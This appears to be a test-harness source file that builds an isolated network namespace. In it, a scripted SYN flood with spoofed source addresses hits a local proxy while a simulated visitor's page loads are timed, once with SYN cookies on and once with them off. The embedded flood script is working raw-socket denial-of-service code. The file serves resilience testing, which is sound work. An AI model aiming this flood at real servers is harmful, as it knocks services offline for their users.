import { ending, standIns } from "./standIns";

/**
 * Somebody asks for connections from thousands of addresses that answer nothing, while a visitor beside him wants
 * pages. Visitors come over a network of their own, as what is sent from the machine itself is answered at once.
 */
export const synFloodScenario = `${standIns}
until(lambda: min(share(10).values()) >= 3, 15)
EDGE_PUBLIC, VISITOR = "192.0.2.1", "192.0.2.2"
inside = ["ip", "netns", "exec", "outside"]
for step in [
    "ip netns add outside",
    "ip link add public type veth peer name out netns outside",
    f"ip address add {EDGE_PUBLIC}/24 dev public",
    "ip link set public up",
    f"ip -n outside address add {VISITOR}/24 dev out",
    "ip -n outside link set out up",
    f"ip route add 198.18.0.0/15 via {VISITOR}",
]:
    subprocess.run(step.split(), check=True)

PACKETS, PER_SECOND = 30000, 10000
flood = f'''
import random, socket, struct, time
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton("{EDGE_PUBLIC}")
sent, began = 0, time.monotonic()
for number in range({PACKETS}):
    source = struct.pack("!BBH", 198, 18, number * 7 % 65536)
    head = lambda check: struct.pack("!HHIIBBHHH", 1024 + number % 60000, 80, number, 0, 5 << 4, 2, 65535, check, 0)
    tcp = head(checksum(source + target + struct.pack("!BBH", 0, 6, 20) + head(0)))
    ip = struct.pack("!BBHHHBBH4s4s", 69, 0, 40, number % 65536, 0, 64, 6, 0, source, target)
    sender.sendto(ip + tcp, ("{EDGE_PUBLIC}", 0))
    sent += 1
    ahead = sent / {PER_SECOND} - (time.monotonic() - began)
    if ahead > 0.01:
        time.sleep(ahead)
print(sent)
'''
visitor = f'''
import http.client, json, time
seconds, failed = [], []
deadline = time.monotonic() + 4
while time.monotonic() < deadline:
    began = time.monotonic()
    connection = http.client.HTTPConnection("{EDGE_PUBLIC}", 80, timeout=4)
    try:
        connection.request("GET", "/page")
        status = connection.getresponse().status
        if status != 200:
            failed.append(status)
    except OSError as error:
        failed.append(str(error))
    connection.close()
    seconds.append(time.monotonic() - began)
    time.sleep(0.02)
print(json.dumps(dict(asked=len(seconds), failed=failed, worst=max(seconds), median=sorted(seconds)[len(seconds) // 2])))
'''


def counters():
    lines = [line.split() for line in open("/proc/net/netstat") if line.startswith("TcpExt:")]
    return dict(zip(lines[0][1:], map(int, lines[1][1:])))


def attacked():
    # Whoever was here before is let in first; this visitor is a stranger.
    subprocess.run(["ip", "tcp_metrics", "flush"], check=True)
    before = counters()
    attacker = subprocess.Popen([*inside, "python3", "-c", flood], stdout=subprocess.PIPE, text=True)
    time.sleep(0.5)
    pages = json.loads(subprocess.run([*inside, "python3", "-c", visitor], capture_output=True, text=True, check=True).stdout)
    pages["sent"] = int(attacker.communicate()[0])
    after = counters()
    pages["cookies"] = after["SyncookiesSent"] - before["SyncookiesSent"]
    return pages


def half_open():
    return sum(line.split()[3] == "03" for line in open("/proc/net/tcp"))


subprocess.run(["sysctl", "--quiet", "--ignore", "--load=/tmp/kernel.conf"], check=True)
open("/proc/sys/net/ipv4/tcp_no_metrics_save", "w").write("1")
# What listens has taken its queue from the settings when it began.
proxy.terminate()
proxy.wait()
proxy = subprocess.Popen(command, stdout=log, stderr=log)
until(healthy)
result["protected"] = attacked()
result["forgotten"] = until(lambda: half_open() == 0, 20)
open("/proc/sys/net/ipv4/tcp_syncookies", "w").write("0")
result["unprotected"] = attacked()
${ending}`;
